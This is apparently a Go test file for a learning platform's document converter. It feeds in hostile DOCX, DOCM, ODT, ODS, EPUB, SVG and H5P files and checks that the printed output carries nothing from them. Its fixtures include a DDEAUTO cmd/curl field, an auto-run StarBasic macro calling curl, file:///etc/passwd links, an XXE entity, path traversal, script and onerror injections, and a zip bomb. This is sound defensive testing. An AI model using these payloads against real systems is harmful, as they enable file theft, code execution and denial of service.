package apptest_test

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/digital-learning-lab/lab/internal/digitise/ziptest"
)

// paper is what LibreOffice may use: addresses are not memory, and it reserves many.
const paper = 1024

// papers are sound office files that bring something from elsewhere, or would do
// something when they are opened. Each is printed without it. #32.
func papers() []hostile {
	row := func(what, file string, data func(t *testing.T, at string) []byte) hostile {
		return hostile{number: "#32", what: what, file: file, want: "ready ", memory: paper, check: printedWithout,
			data: func(t *testing.T) []byte { return data(t, bait(t)) }}
	}
	return []hostile{
		row("sound DOCX with a picture elsewhere", "cours.docx", func(t *testing.T, at string) []byte {
			return word(t, pictured, relation("rId9", "image", at), "")
		}),
		row("sound DOCX with a picture of the server", "cours.docx", func(t *testing.T, _ string) []byte {
			return word(t, pictured, relation("rId9", "image", "file://"+secret(t)), "")
		}),
		row("sound DOCX with a template elsewhere", "cours.docx", func(t *testing.T, at string) []byte {
			return word(t, "", "", relation("rId1", "attachedTemplate", at))
		}),
		row("sound DOCX with DDE", "cours.docx", func(t *testing.T, at string) []byte {
			return word(t, `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k curl `+at+`&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`+
				`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, "", "")
		}),
		row("sound DOCM with a macro", "cours.docm", macroWord),
		row("sound ODT with a macro that runs when it is opened", "cours.odt", macroText),
		row("sound ODS with data from elsewhere", "notes.ods", linkedSheet),
	}
}

// evil is what would stand on a page if a file had its way.
const evil = "ATTEINT"

// printedWithout: what stands on the page is the author's alone.
func printedWithout(t *testing.T, h hearing) {
	var v printed
	h.trainer.Get("/resources/"+h.resource+"/viewer", &v)
	if made := sent(t, h.trainer, v.Printable.Src).Body; !bytes.HasPrefix(made, []byte("%PDF-")) || bytes.Contains(made, []byte("/Subtype/Image")) {
		t.Errorf("it is printed with an image, or not at all")
	}
	var page struct{ Text string }
	h.trainer.Get("/resources/"+h.resource+"/pages/1", &page)
	if !strings.Contains(page.Text, "Avant") || containsAny(page.Text, evil, "root:") {
		t.Errorf("on the page stands %q", page.Text)
	}
}

// secret is a picture of this machine that a file may not bring along.
func secret(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "secret.png")
	if err := os.WriteFile(path, tinted(t, 3, 0), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// bait is an address of this machine that nobody is to call.
func bait(t *testing.T) string {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var called atomic.Int32
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return // it was closed
			}
			called.Add(1)
			_ = c.Close() // it is told all that it needs
		}
	}()
	t.Cleanup(func() {
		if err := listener.Close(); err != nil || called.Load() > 0 {
			t.Errorf("it was called %d times, %v", called.Load(), err)
		}
	})
	return fmt.Sprintf("http://%s/x.png", listener.Addr())
}

const (
	types     = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>%s</Types>`
	relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>`
	ofOffice  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	pictured  = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="990000" cy="990000"/><wp:docPr id="1" name="a"/>` +
		`<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
		`<pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId9"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
)

// relation leads to somewhere else (ISO/IEC 29500-2, 6.5.3.4).
func relation(id, kind, target string) string {
	return fmt.Sprintf(`<Relationship Id="%s" Type="%s%s" Target="%s" TargetMode="External"/>`, id, ofOffice, kind, target)
}

// word is a text of Word (ISO/IEC 29500-1, 11.3.10), with a body, what it leads to,
// and what its settings lead to.
func word(t *testing.T, body, leads, settings string) []byte {
	t.Helper()
	return ziptest.Of(t, wordFiles("wordprocessingml.document.main", "application/vnd.openxmlformats-officedocument.", body, leads, settings)...)
}

func wordFiles(main, family, body, leads, settings string) []ziptest.File {
	template := ""
	if settings != "" {
		template = `<w:attachedTemplate r:id="rId1"/>`
	}
	return []ziptest.File{
		{"[Content_Types].xml", fmt.Sprintf(types, `<Override PartName="/word/document.xml" ContentType="`+family+main+`+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`)},
		{"_rels/.rels", fmt.Sprintf(relations, `<Relationship Id="rId1" Type="`+ofOffice+`officeDocument" Target="word/document.xml"/>`)},
		{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>Avant</w:t></w:r></w:p>` + body + `</w:body></w:document>`},
		{"word/_rels/document.xml.rels", fmt.Sprintf(relations, `<Relationship Id="rId1" Type="`+ofOffice+`settings" Target="settings.xml"/>`+leads)},
		{"word/settings.xml", `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` + template + `</w:settings>`},
		{"word/_rels/settings.xml.rels", fmt.Sprintf(relations, settings)},
	}
}

// macroWord has the part that macros stand in. It holds no program of Visual Basic,
// which nobody writes by hand, but what makes a reader look for one.
func macroWord(t *testing.T, _ string) []byte {
	files := wordFiles("word.document.macroEnabled.main", "application/vnd.ms-", "",
		`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`, "")
	return ziptest.Of(t, append(files, ziptest.File{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("Sub AutoOpen()\x00", 300)})...)
}

const (
	openNames = ` xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"` +
		` xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"`
	manifest = `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>%s</manifest:manifest>`
)

// openDocument is a file of OpenDocument (OASIS ODF 1.3 part 2) with a body of its
// sort and more files.
func openDocument(t *testing.T, sort, before, body string, more ...ziptest.File) []byte {
	t.Helper()
	mime := "application/vnd.oasis.opendocument." + sort
	listed := ""
	for _, f := range more {
		listed += `<manifest:file-entry manifest:full-path="` + f[0] + `" manifest:media-type="text/xml"/>`
	}
	return ziptest.Of(t, append([]ziptest.File{
		{"mimetype", mime}, {"META-INF/manifest.xml", fmt.Sprintf(manifest, mime, listed)},
		{"content.xml", `<office:document-content` + openNames + `>` + before + `<office:body><office:` + sort + `>` + body + `</office:` + sort + `></office:body></office:document-content>`},
	}, more...)...)
}

// macroText is a text with a real program in Basic, which is bound to its opening
// (part 3, 3.12 and 3.14) and writes into it, to a file and to a server.
func macroText(t *testing.T, at string) []byte {
	basic := func(kind, id, content string) ziptest.File {
		return ziptest.File{kind, `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE ` + id + ` PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "x.dtd">` + content}
	}
	names := ` xmlns:library="http://openoffice.org/2000/library" xmlns:script="http://openoffice.org/2000/script" xmlns:xlink="http://www.w3.org/1999/xlink"`
	return openDocument(t, "text",
		`<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
		`<text:p>Avant</text:p>`,
		basic("Basic/script-lc.xml", "library:libraries", `<library:libraries`+names+`><library:library library:name="Standard" library:link="false"/></library:libraries>`),
		basic("Basic/Standard/script-lb.xml", "library:library", `<library:library`+names+` library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>`),
		basic("Basic/Standard/M.xml", "script:module", `<script:module`+names+` script:name="M" script:language="StarBasic">Sub Main
  ThisComponent.Text.String = &quot;`+evil+`&quot;
  Open &quot;/tmp/lab-evil&quot; For Output As #1
  Shell(&quot;/usr/bin/curl&quot;, 0, &quot;`+at+`&quot;, True)
End Sub</script:module>`))
}

// linkedSheet takes cells from a server and from a file of the machine, in the three
// ways of a sheet: linked ranges (part 3, 9.3.1 and 9.4.4), another file's cells, and
// functions that fetch.
func linkedSheet(t *testing.T, at string) []byte {
	return openDocument(t, "spreadsheet", "", `<table:table table:name="A"><table:table-row>`+
		`<table:table-cell office:value-type="string"><text:p>Avant</text:p></table:table-cell>`+
		`<table:table-cell office:value-type="string"><table:cell-range-source table:name="CSV_all" xlink:type="simple" xlink:href="file:///etc/passwd" table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="1" table:last-row-spanned="1"/><text:p>x</text:p></table:table-cell>`+
		`<table:table-cell table:formula="of:='file:///etc/passwd'#$Sheet1.A1" office:value-type="string"><text:p>x</text:p></table:table-cell>`+
		`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;`+at+`&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell>`+
		`</table:table-row></table:table><table:table table:name="B"><table:table-source xlink:type="simple" xlink:href="`+at+`" table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/><table:table-row><table:table-cell/></table:table-row></table:table>`)
}

// readings are books, modules and drawings that bring something from elsewhere, run
// something, or unpack to more than there is. #5, #6, #12, #15 and #18.
func readings() []hostile {
	return []hostile{
		{number: "#6", what: "XLSX of a million rows", file: "notes.xlsx", want: "failed archive.too-large", data: millionRows},
		{number: "#15", what: "EPUB that leads out of itself", file: "livre.epub", want: "ready ", data: wanderingBook, check: plainBook},
		{number: "#12", what: "SVG with an entity from a file", file: "plan.svg", want: "kept file.drawing",
			data: plain(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`)},
		{number: "#15", what: "H5P with a script", file: "exercice.h5p", want: "ready ", check: unscripted, data: func(t *testing.T) []byte {
			return ziptest.Of(t, ziptest.File{"h5p.json", `{"title":"Avant <script>alert(1)</script>","language":"fr","mainLibrary":"H5P.Evil","preloadedDependencies":[]}`},
				ziptest.File{"content/content.json", `{"text":"<p>Une question<script src='` + bait(t) + `'></script><img src=x onerror=alert(1)></p>"}`},
				ziptest.File{"H5P.Evil-1.0/evil.js", "alert(document.domain)"})
		}},
		{number: "#5", what: "SCORM with archives in archives", file: "scorm.zip", want: "ready ", data: func(t *testing.T) []byte {
			return ziptest.Of(t, ziptest.File{"imsmanifest.xml", "<manifest/>"}, ziptest.File{"index.html", "<p>Avant"}, ziptest.File{"tout.zip", string(nested(t))})
		}},
	}
}

// millionRows is a workbook of as many rows as a sheet may have, all alike: 36 MB in
// 100 kB.
func millionRows(t *testing.T) []byte {
	files := map[string]string{
		"[Content_Types].xml":        fmt.Sprintf(types, `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`),
		"_rels/.rels":                fmt.Sprintf(relations, `<Relationship Id="rId1" Type="`+ofOffice+`officeDocument" Target="xl/workbook.xml"/>`),
		"xl/workbook.xml":            `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": fmt.Sprintf(relations, `<Relationship Id="rId1" Type="`+ofOffice+`worksheet" Target="worksheets/sheet1.xml"/>`),
		"xl/worksheets/sheet1.xml":   `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + strings.Repeat(`<row><c><v>1</v></c></row>`, 1<<20) + `</sheetData></worksheet>`,
	}
	return packed(files)(t)
}

// wanderingBook names documents outside of itself, scripts, and pictures elsewhere.
func wanderingBook(t *testing.T) []byte {
	at := bait(t)
	return ziptest.Of(t, ziptest.File{"mimetype", "application/epub+zip"},
		ziptest.File{"META-INF/container.xml", `<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="o.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`},
		ziptest.File{"o.opf", `<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/" version="3.0"><metadata><dc:title>Un livre</dc:title></metadata><manifest>` +
			`<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="../../../etc/passwd" media-type="application/xhtml+xml"/>` +
			`<item id="c" href="/etc/passwd" media-type="application/xhtml+xml"/><item id="d" href="` + at + `" media-type="application/xhtml+xml"/><item id="e" href="file:///etc/passwd" media-type="application/xhtml+xml"/>` +
			`</manifest><spine><itemref idref="b"/><itemref idref="a"/><itemref idref="c"/><itemref idref="d"/><itemref idref="e"/></spine></package>`},
		ziptest.File{"a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Avant</h1><p onclick="alert(1)">Un mot<script src="` + at + `">alert(1)</script></p><img src="` + at + `"/><img src="../../etc/passwd"/><iframe src="` + at + `"/><a href="javascript:alert(1)">x</a></body></html>`})
}

// plainBook: of a book its words are shown, and nothing that a browser would run or
// fetch.
func plainBook(t *testing.T, h hearing) {
	var v reading
	h.trainer.Get("/resources/"+h.resource+"/viewer", &v)
	if v.Text == nil || len(v.Text.Parts) == 0 {
		t.Fatalf("the viewer has %s", h.raw)
	}
	for _, part := range v.Text.Parts {
		html := sent(t, h.trainer, part.Src).Body
		if !bytes.Contains(html, []byte("Un mot")) || containsAny(string(html), "root:", "<script", "alert", "127.0.0.1", "<iframe", "onclick", "<img") {
			t.Errorf("a part is %s", html)
		}
	}
}

// unscripted: what a viewer is told of a module is text.
func unscripted(t *testing.T, h hearing) {
	if containsAny(string(h.raw), "<script", "onerror", "127.0.0.1") {
		t.Errorf("the viewer has %s", h.raw)
	}
}
